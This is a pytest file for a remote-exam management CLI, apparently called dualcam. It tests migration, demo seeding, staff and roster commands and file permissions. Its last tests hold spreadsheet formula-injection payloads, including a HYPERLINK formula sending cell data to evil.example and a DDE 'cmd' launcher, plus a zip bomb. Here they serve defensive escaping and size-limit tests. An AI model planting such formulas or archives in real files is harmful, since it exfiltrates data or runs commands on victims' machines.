"""`dualcam`: migrate and demo in real processes, the ops commands in-process; results checked through the API
of an app built on the same data dir."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import secrets
import shutil
import subprocess
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, time, timedelta
from pathlib import Path
from typing import Any, TypeVar
from zoneinfo import ZoneInfo

import httpx
import pytest
from PIL import Image
from sqlalchemy import select
from typer.testing import CliRunner

from app.cli import cli
from app.config import Settings
from app.main import create_app
from app.models import ExamSession, StaffUser
from tests.support import databases
from tests.support.api import id_number, phone

ROOT = Path(__file__).resolve().parents[2]
SHANGHAI = ZoneInfo("Asia/Shanghai")
FAST_ARGON2 = {"DUALCAM_ARGON2_TIME_COST": "1", "DUALCAM_ARGON2_MEMORY_KIB": "1024"}
# Settings the test process may carry that would point the CLI elsewhere than the data dir.
ELSEWHERE = ("DUALCAM_DATABASE_URL", "DUALCAM_STORAGE_URL", "DUALCAM_REDIS_URL", "DUALCAM_CLOCK_FILE")
T = TypeVar("T")


def cli_env(data_dir: Path) -> dict[str, str | None]:
    return {"DUALCAM_DATA_DIR": str(data_dir), **FAST_ARGON2, **dict.fromkeys(ELSEWHERE)}


def run_process(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ELSEWHERE}
    env.update({"DUALCAM_DATA_DIR": str(data_dir), **FAST_ARGON2})
    return subprocess.run([str(ROOT / ".venv/bin/dualcam"), *args], env=env, cwd=ROOT, capture_output=True, text=True, timeout=120)


def dualcam(data_dir: Path, *args: str, exit_code: int = 0) -> Any:
    """Run a command in-process; its stdout as JSON when it printed JSON, else the text (stderr's JSON on exit 2)."""
    result = CliRunner().invoke(cli, list(args), env=cli_env(data_dir))
    assert result.exit_code == exit_code, f"{args}: {result.exit_code} {result.stdout} {result.stderr} {result.exception!r}"
    text = result.stderr if exit_code == 2 else result.stdout
    try:
        return json.loads(text)
    except json.JSONDecodeError:
        return text


def against_app(data_dir: Path, check: Callable[[httpx.AsyncClient, Any], Awaitable[T]]) -> T:
    """Run `check(client, app)` against an app on the data dir the CLI used."""
    settings = Settings(
        env="test", data_dir=data_dir, database_url=None, storage_url=None, redis_url=None, clock_file=None,
        scheduler_enabled=False, log_json=False, argon2_time_cost=1, argon2_memory_kib=1024,
    )

    async def main() -> T:
        app = create_app(settings)
        async with app.router.lifespan_context(app):
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as client:
                return await check(client, app)

    return asyncio.run(main())


async def login(client: httpx.AsyncClient, path: str, body: dict[str, Any]) -> dict[str, str]:
    response = await client.post(f"/api/v1/auth/{path}/login", json=body)
    assert response.status_code == 200, response.text
    return {"Authorization": f"Bearer {response.json()['token']}"}


async def get(client: httpx.AsyncClient, url: str, headers: dict[str, str]) -> Any:
    response = await client.get(url, headers=headers)
    assert response.status_code == 200, response.text
    return response.json()


# --- migrate + demo, as a newcomer runs them ---------------------------------------------------------------


def test_migrate_then_demo_prints_credentials_that_work(tmp_path: Path) -> None:
    data_dir = tmp_path / "fresh" / "var"  # not even the parent exists
    migrated = run_process(data_dir, "migrate")
    assert migrated.returncode == 0, migrated.stderr
    assert "migrated" in migrated.stdout and (data_dir / "dualcam.sqlite3").is_file()

    before = datetime.now(UTC)
    demo = run_process(data_dir, "demo", "--json")
    after = datetime.now(UTC)
    assert demo.returncode == 0, demo.stderr
    seed = json.loads(demo.stdout)
    assert {"exam_id", "ops_username", "ops_password", "candidate_id_number", "candidate_phone", "candidate_access_code",
            "practice_session_id", "mock_session_id", "formal_session_id"} <= set(seed)
    assert seed["urls"]["main_camera"].endswith("/main/") and seed["urls"]["aux_camera"].endswith("/aux/")
    # The mock's waiting window opens 2 minutes after the demo ran (whole seconds).
    assert "T" in seed["mock_waiting_opens_at"] and seed["formal_answer_starts_at"].endswith("T09:00:00+08:00")
    mock_opens = datetime.fromisoformat(seed["mock_waiting_opens_at"])
    assert before + timedelta(minutes=2) - timedelta(seconds=1) <= mock_opens <= after + timedelta(minutes=2)
    tomorrows = {(moment.astimezone(SHANGHAI) + timedelta(days=1)).date() for moment in (before, after)}

    async def check(client: httpx.AsyncClient, app: Any) -> None:
        ops = await login(client, "staff", {"username": seed["ops_username"], "password": seed["ops_password"]})
        sessions = {s["id"]: s for s in await get(client, f"/api/v1/ops/exams/{seed['exam_id']}/sessions", ops)}
        assert sessions[seed["practice_session_id"]]["kind"] == "practice"
        mock = sessions[seed["mock_session_id"]]
        assert datetime.fromisoformat(mock["waiting_opens_at"]) == mock_opens
        formal = sessions[seed["formal_session_id"]]
        times = [datetime.fromisoformat(formal[k]) for k in ("waiting_opens_at", "answer_starts_at", "answer_ends_at", "upload_deadline")]
        assert {t.date() for t in times} <= tomorrows and all(t.utcoffset() == timedelta(hours=8) for t in times)
        assert [t.time() for t in times] == [time(8, 50), time(9), time(9, 10), time(12)]

        async with app.state.sessionmaker() as db:  # the demo process hashed with the DUALCAM_ARGON2_* cost
            ops_hash = await db.scalar(select(StaffUser.password_hash).where(StaffUser.username == seed["ops_username"]))
            assert ops_hash.startswith("$argon2id$v=19$m=1024,t=1,")

        for identifier in (seed["candidate_id_number"], seed["candidate_phone"]):
            candidate = await login(client, "candidate", {"identifier": identifier, "secret": seed["candidate_access_code"]})
            listed = {s["id"]: s for s in await get(client, "/api/v1/candidate/sessions", candidate)}
            assert listed[seed["mock_session_id"]]["sitting"]["state"] == "scheduled"  # the demo candidate is confirmed

    against_app(data_dir, check)


@pytest.mark.parametrize("with_photo", [False, True])
def test_demo_enrols_an_id_photo_when_given_one_and_says_how_otherwise(data_dir: Path, with_photo: bool) -> None:
    args = ("demo", "--id-photo", str(ROOT / "tests/data/faces/person_a_1.jpg")) if with_photo else ("demo",)
    shown = run_process(data_dir, *args)
    assert shown.returncode == 0, shown.stderr
    assert ("dualcam demo --id-photo" in shown.stdout) is not with_photo  # without one, the exact command to add it
    seed = dualcam(data_dir, *args, "--json")
    assert seed["candidate_has_id_photo"] is with_photo

    async def check(client: httpx.AsyncClient, app: Any) -> None:
        candidate = await login(client, "candidate", {"identifier": seed["candidate_phone"], "secret": seed["candidate_access_code"]})
        assert (await get(client, "/api/v1/candidate/identity", candidate))["has_id_photo"] is with_photo

    against_app(data_dir, check)


@pytest.mark.parametrize("command", [("demo",), ("exam", "list"), ("serve", "--port", "1")])
def test_a_database_not_migrated_is_named_in_one_line_and_left_as_it_was(tmp_path: Path, command: tuple[str, ...]) -> None:
    """A second terminal without the server's DUALCAM_* settings looks at another (empty) database: one line that
    says so and where it looked, exit 2, no traceback, and no database file created by looking."""
    result = run_process(tmp_path / "elsewhere", *command)
    assert result.returncode == 2, result
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
    error = json.loads(result.stderr)["error"]
    assert error["code"] == "database_not_migrated" and error["details"]["fix"] == "dualcam migrate"
    assert str(tmp_path / "elsewhere" / "dualcam.sqlite3") in error["details"]["database"]
    assert not (tmp_path / "elsewhere" / "dualcam.sqlite3").exists()


def test_demo_again_gives_fresh_credentials_that_work(data_dir: Path) -> None:
    first = dualcam(data_dir, "demo", "--json")
    second = dualcam(data_dir, "demo", "--json")
    assert first["exam_id"] != second["exam_id"] and first["ops_password"] != second["ops_password"]

    async def check(client: httpx.AsyncClient, app: Any) -> None:
        stale = await client.post("/api/v1/auth/staff/login", json={"username": second["ops_username"], "password": first["ops_password"]})
        assert stale.status_code == 401
        await login(client, "staff", {"username": second["ops_username"], "password": second["ops_password"]})
        for seed in (first, second):  # the same person on two demo exams: each code opens its own
            candidate = await login(client, "candidate", {"identifier": seed["candidate_id_number"], "secret": seed["candidate_access_code"]})
            assert (await get(client, "/api/v1/candidate/me", candidate))["exam_id"] == seed["exam_id"]

    against_app(data_dir, check)


# --- the ops commands ----------------------------------------------------------------------------------------


def jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "green").save(buffer, "JPEG")
    return buffer.getvalue()


def make_exam(data_dir: Path) -> str:
    today = datetime.now(SHANGHAI).date()
    return dualcam(
        data_dir, "exam", "create", "--json",
        "--title", "2026年某单位公开招聘面试", "--organizer", "某单位", "--province", "山东", "--identity-category", "其他",
        # Without an offset: read in the exam's timezone.
        "--confirm-opens-at", f"{today - timedelta(days=1)}T00:00:00", "--confirm-closes-at", f"{today + timedelta(days=30)}T18:00:00",
    )["id"]


def session_times(day: Any, hours: tuple[str, str, str, str] = ("08:50", "09:00", "09:10", "12:00")) -> list[str]:
    names = ("--waiting-opens-at", "--answer-starts-at", "--answer-ends-at", "--upload-deadline")
    return [part for name, hour in zip(names, hours, strict=True) for part in (name, f"{day}T{hour}:00")]


@pytest.mark.parametrize(
    "hours",
    [
        ("09:00", "08:50", "09:10", "12:00"),  # answer starts before waiting opens
        ("08:50", "09:10", "09:00", "12:00"),  # answer ends before it starts
        ("08:50", "09:00", "09:10", "09:05"),  # upload deadline before answer end
    ],
)
def test_session_windows_out_of_order_exit_2_with_a_json_error(data_dir: Path, hours: tuple[str, str, str, str]) -> None:
    exam_id = make_exam(data_dir)
    day = datetime.now(SHANGHAI).date() + timedelta(days=3)
    error = dualcam(data_dir, "session", "create", exam_id, "--kind", "formal", "--title", "正式", *session_times(day, hours), exit_code=2)["error"]
    assert error["code"] == "window_order" and error["message"] and error["message_en"]

    async def check(client: httpx.AsyncClient, app: Any) -> int:
        async with app.state.sessionmaker() as db:
            return len((await db.scalars(select(ExamSession.id))).all())

    assert against_app(data_dir, check) == 0  # nothing was created

def test_invalid_options_exit_2_with_the_api_error_shape(data_dir: Path) -> None:
    exam_id = make_exam(data_dir)
    cases = [
        (["exam", "create", "--title", "", "--organizer", "x", "--province", "山东", "--identity-category", "其他",
          "--confirm-opens-at", "2026-06-01T00:00:00", "--confirm-closes-at", "2026-06-02T00:00:00"], "validation_error"),
        (["exam", "create", "--title", "t", "--organizer", "x", "--province", "山东", "--identity-category", "其他",
          "--confirm-opens-at", "2026-06-02T00:00:00", "--confirm-closes-at", "2026-06-01T00:00:00"], "confirm_window_order"),
        (["session", "create", exam_id, "--kind", "practice", "--title", "练习", "--waiting-seconds", "5"], "validation_error"),
        (["session", "create", exam_id, "--kind", "practice", "--title", "练习", "--waiting-seconds", "60"], "session_kind_fields"),
        (["session", "status", "00000000-0000-4000-8000-000000000000", "--json"], "session_not_found"),
        (["roster", "import", "00000000-0000-4000-8000-000000000000", __file__], "exam_not_found"),
    ]
    for args, code in cases:
        error = dualcam(data_dir, *args, exit_code=2)["error"]
        assert (error["code"], bool(error["message"]), bool(error["message_en"])) == (code, True, True), args
    assert dualcam(data_dir, "exam", "list", "--json") == [
        {"id": exam_id, "title": "2026年某单位公开招聘面试", "province": "山东", "identity_category": "其他"}
    ]


def test_staff_create_generates_a_password_the_rule_accepts(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(secrets, "token_urlsafe", lambda nbytes: "only-letters_" * 2)  # a draw without digits
    out = dualcam(data_dir, "staff", "create", "reviewer-1", "--role", "reviewer")
    password = next(line.split(": ", 1)[1] for line in out.splitlines() if line.startswith("password: "))

    async def check(client: httpx.AsyncClient, app: Any) -> str:
        return (await (client.post("/api/v1/auth/staff/login", json={"username": "reviewer-1", "password": password}))).json()["role"]

    assert against_app(data_dir, check) == "reviewer"


def test_staff_assign_and_unassign_an_exam_in_one_line_each(data_dir: Path) -> None:
    out = dualcam(data_dir, "staff", "create", "rev-cli", "--role", "reviewer")
    password = next(line.split(": ", 1)[1] for line in out.splitlines() if line.startswith("password: "))
    dualcam(data_dir, "staff", "create", "ops-2")
    exam_id, other_id = make_exam(data_dir), make_exam(data_dir)

    assigned = dualcam(data_dir, "staff", "assign", "rev-cli", exam_id)
    assert assigned.startswith(f"rev-cli assigned to exam {exam_id} (since ") and assigned.count("\n") == 1
    assert dualcam(data_dir, "staff", "assign", "rev-cli", exam_id) == assigned  # again: the first assignment stands
    for args, code in [
        (("assign", "nobody", exam_id), "staff_not_found"),
        (("assign", "rev-cli", "00000000-0000-4000-8000-000000000000"), "exam_not_found"),
        (("assign", "rev-cli", "not-a-uuid"), "validation_error"),
        (("assign", "ops-2", exam_id), "staff_sees_all_exams"),
        (("unassign", "rev-cli", other_id), "staff_not_assigned"),
    ]:
        result = CliRunner().invoke(cli, ["staff", *args], env=cli_env(data_dir))
        assert result.exit_code == 2 and result.stdout == "", args
        assert result.stderr.count("\n") == 1 and json.loads(result.stderr)["error"]["code"] == code, (args, result.stderr)

    async def visible(client: httpx.AsyncClient, app: Any) -> list[str]:
        reviewer = await login(client, "staff", {"username": "rev-cli", "password": password})
        return [e["id"] for e in await get(client, "/api/v1/ops/exams", reviewer)]

    assert against_app(data_dir, visible) == [exam_id]
    assert dualcam(data_dir, "staff", "unassign", "rev-cli", exam_id) == f"rev-cli unassigned from exam {exam_id}\n"
    assert against_app(data_dir, visible) == []


def test_ops_set_up_an_exam_import_a_gbk_roster_with_photos_and_watch_the_session(data_dir: Path, tmp_path: Path) -> None:
    staff = dualcam(data_dir, "staff", "create", "ops-cli", "--display-name", "考务")
    password = next(line.split(": ", 1)[1] for line in staff.splitlines() if line.startswith("password: "))
    exam_id = make_exam(data_dir)
    day = datetime.now(SHANGHAI).date() + timedelta(days=3)
    session = dualcam(data_dir, "session", "create", exam_id, "--kind", "formal", "--title", "正式考试", *session_times(day), "--json")
    assert session["kind"] == "formal"
    assert "position: 1" in dualcam(data_dir, "session", "question", session["id"], "--text", "请做自我介绍。")
    picture = tmp_path / "图表.jpg"
    picture.write_bytes(jpeg())
    added = dualcam(data_dir, "session", "question", session["id"], "--text", "请描述图中的趋势。", "--image", str(picture))
    assert "position: 2" in added and "has_image: True" in added
    # A file that is no picture: refused in one line, and the question is not added either.
    text_file = tmp_path / "不是图片.jpg"
    text_file.write_text("just text")
    refused = dualcam(data_dir, "session", "question", session["id"], "--text", "第三题", "--image", str(text_file), exit_code=2)
    assert refused["error"]["code"] == "bad_image"

    photos = tmp_path / "照片"
    photos.mkdir()
    (photos / "张三.jpg").write_bytes(jpeg())
    roster = tmp_path / "名单.csv"
    roster.write_bytes(f"姓名,身份证号,手机号,照片\r\n张三,{id_number(1)},{phone(1)},张三.jpg\r\n李四,{id_number(2)},{phone(2)},\r\n".encode("gbk"))
    codes = tmp_path / "codes.csv"
    args = ("roster", "import", exam_id, str(roster), "--photos", str(photos), "--codes-out", str(codes), "--json")

    assert dualcam(data_dir, *args, "--dry-run") == {"dry_run": True, "rows": 2, "imported": []}
    assert not codes.read_bytes()[3:].strip().count(b"\n")  # header only: nothing issued
    result = dualcam(data_dir, *args)
    assert [(i["row"], i["name"]) for i in result["imported"]] == [(2, "张三"), (3, "李四")]
    with codes.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    assert written[0] == ["姓名", "身份证号(掩码)", "手机号", "登录码"]
    assert [(r[0], r[2]) for r in written[1:]] == [("张三", phone(1)), ("李四", phone(2))]
    assert [r[3] for r in written[1:]] == [i["access_code"] for i in result["imported"]]
    # The same file again: every row is already on the roster, exit 2, nothing more imported.
    again = dualcam(data_dir, *args, exit_code=2)["error"]
    assert again["code"] == "roster_rejected" and [r["row"] for r in again["details"]["rejected"]] == [2, 3]

    async def check(client: httpx.AsyncClient, app: Any) -> None:
        ops = await login(client, "staff", {"username": "ops-cli", "password": password})
        async with app.state.sessionmaker() as db:  # the CLI honours DUALCAM_ARGON2_*
            assert (await db.scalar(select(StaffUser.password_hash).where(StaffUser.username == "ops-cli"))).startswith("$argon2id$v=19$m=1024,t=1,")
        exam = await get(client, f"/api/v1/ops/exams/{exam_id}", ops)
        assert exam["confirm_closes_at"] == f"{datetime.now(SHANGHAI).date() + timedelta(days=30)}T18:00:00+08:00"
        (listed,) = await get(client, f"/api/v1/ops/exams/{exam_id}/sessions", ops)
        assert listed["answer_starts_at"] == f"{day}T09:00:00+08:00"
        questions = await get(client, f"/api/v1/ops/sessions/{session['id']}/questions", ops)
        assert [(q["text"], q["has_image"]) for q in questions] == [("请做自我介绍。", False), ("请描述图中的趋势。", True)]
        image = await client.get(f"/api/v1/ops/sessions/{session['id']}/questions/{questions[1]['id']}/image", headers=ops)
        assert (image.status_code, image.content, image.headers["content-type"]) == (200, picture.read_bytes(), "image/jpeg")
        roster_page = await get(client, f"/api/v1/ops/exams/{exam_id}/candidates", ops)
        assert sorted((c["name"], c["has_photo"]) for c in roster_page["items"]) == [("张三", True), ("李四", False)]

        candidate = await login(client, "candidate", {"identifier": id_number(1), "secret": written[1][3]})
        confirm = await client.post("/api/v1/candidate/confirmation", headers=candidate, json={"identity_category": "其他", "province": "山东", "accept_rules": True})
        assert confirm.status_code == 200, confirm.text

    against_app(data_dir, check)
    status = dualcam(data_dir, "session", "status", session["id"], "--json")
    assert status["session_id"] == session["id"]
    assert {k: v for k, v in status["counts"].items() if v} == {"scheduled": 1}
    assert status["recordings"]["main"] == {"missing": 1, "receiving": 0, "verified": 0, "failed": 0}


# --- settings ------------------------------------------------------------------------------------------------


def run_with(data_dir: Path, extra: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    """`dualcam` in a process under the usual umask 022 (what makes a file 0644 unless the code says otherwise)."""
    env = {k: v for k, v in os.environ.items() if k not in ELSEWHERE and not k.startswith("DUALCAM_SECRET")}
    env.update({"DUALCAM_DATA_DIR": str(data_dir), **FAST_ARGON2, **extra})
    return subprocess.run([str(ROOT / ".venv/bin/dualcam"), *args], env=env, cwd=ROOT, capture_output=True, text=True, timeout=120, umask=0o022)


def test_a_bad_setting_exits_2_with_one_json_line(tmp_path: Path) -> None:
    done = run_with(tmp_path / "var", {"DUALCAM_TIMEZONE": "Mars/Olympus_Mons"}, "exam", "list")
    assert (done.returncode, done.stdout) == (2, "")
    (line,) = done.stderr.splitlines()
    error = json.loads(line)["error"]
    assert error["code"] == "config_invalid" and error["details"][0]["loc"] == ["timezone"]


# --- files the CLI writes: private where they hold secrets, spreadsheet-safe ------------------------------------


def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_the_database_and_the_generated_key_are_readable_by_the_owner_only(tmp_path: Path) -> None:
    data_dir = tmp_path / "var"
    assert run_with(data_dir, {}, "migrate").returncode == 0
    database = data_dir / "dualcam.sqlite3"
    assert (mode(data_dir), mode(database)) == (0o700, 0o600)
    database.chmod(0o644)  # e.g. a database from before, or restored from a backup
    listed = run_with(data_dir, {}, "exam", "list", "--json")
    assert listed.returncode == 0, listed.stderr
    assert mode(database) == 0o600
    assert mode(data_dir / "secret_key") == 0o600  # generated by the first command that needed it


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击领取")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)")


def test_the_codes_file_is_private_and_formula_like_cells_are_text(data_dir: Path, tmp_path: Path) -> None:
    exam_id = make_exam(data_dir)
    rows = [(name, id_number(n), phone(n)) for n, name in enumerate(FORMULAS, start=1)]
    roster = tmp_path / "名单.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([("姓名", "身份证号", "手机号"), *rows])
    codes = tmp_path / "codes.csv"
    previous_umask = os.umask(0o022)  # what would make a new file 0644
    try:
        result = dualcam(data_dir, "roster", "import", exam_id, str(roster), "--codes-out", str(codes), "--json")
    finally:
        os.umask(previous_umask)
    assert [i["name"] for i in result["imported"]] == list(FORMULAS)  # stored as given; only the file escapes them

    assert mode(codes) == 0o600
    with codes.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    assert [r[0] for r in written[1:]] == [f"'{name}" for name in FORMULAS]
    assert [r[3] for r in written[1:]] == [i["access_code"] for i in result["imported"]]

    codes.chmod(0o644)  # a file that exists with a wider mode is narrowed before it is rewritten
    dualcam(data_dir, "roster", "import", make_exam(data_dir), str(roster), "--dry-run", "--codes-out", str(codes))
    assert mode(codes) == 0o600 and codes.read_text(encoding="utf-8-sig").count("\n") == 1  # header only


def test_a_zip_bomb_given_as_photos_is_refused_and_nothing_is_imported(data_dir: Path, tmp_path: Path) -> None:
    import zipfile

    exam_id = make_exam(data_dir)
    bomb = tmp_path / "photos.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(49):
            archive.writestr(f"{n}.jpg", bytes(10 * 1024 * 1024))
    roster = tmp_path / "名单.csv"
    roster.write_text(f"姓名,身份证号,手机号,照片\n张三,{id_number(1)},{phone(1)},0.jpg\n", encoding="utf-8")
    error = dualcam(data_dir, "roster", "import", exam_id, str(roster), "--photos", str(bomb), exit_code=2)["error"]
    assert (error["code"], error["details"]["reason"]) == ("photo_archive_too_large", "expanded_bytes")
    roster.write_text(f"姓名,身份证号,手机号\n张三,{id_number(1)},{phone(1)}\n", encoding="utf-8")
    assert dualcam(data_dir, "roster", "import", exam_id, str(roster), "--json")["rows"] == 1  # not on the roster yet
